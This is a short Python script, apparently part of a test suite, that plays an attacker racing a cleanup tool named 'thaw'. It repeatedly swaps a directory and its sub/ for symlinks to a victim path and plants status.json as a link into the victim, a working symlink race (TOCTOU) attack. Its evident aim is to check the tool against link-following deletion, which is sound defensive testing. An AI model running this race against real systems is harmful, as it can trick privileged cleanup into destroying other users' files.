# An attacker running as the directory's owner, for 3 s: swaps the directory argv[1] (and its sub/)
# for a link to argv[2], the victim, and back, over and over, and plants status.json as a link into
# the victim, while thaw sweeps that directory as stale.
import os, sys, time
d, victim = sys.argv[1], sys.argv[2]
end = time.time() + 3
while time.time() < end:
    for a, b in ((d + '/sub', d + '/sub.x'), (d, d + '.away')):
        try:
            os.rename(a, b)
            os.symlink(victim, a)
            time.sleep(0.0005)
            os.unlink(a)
            os.rename(b, a)
        except OSError:
            pass
    try:
        os.symlink(victim + '/precious0', d + '/l.tmp')
        os.replace(d + '/l.tmp', d + '/status.json')
    except OSError:
        pass
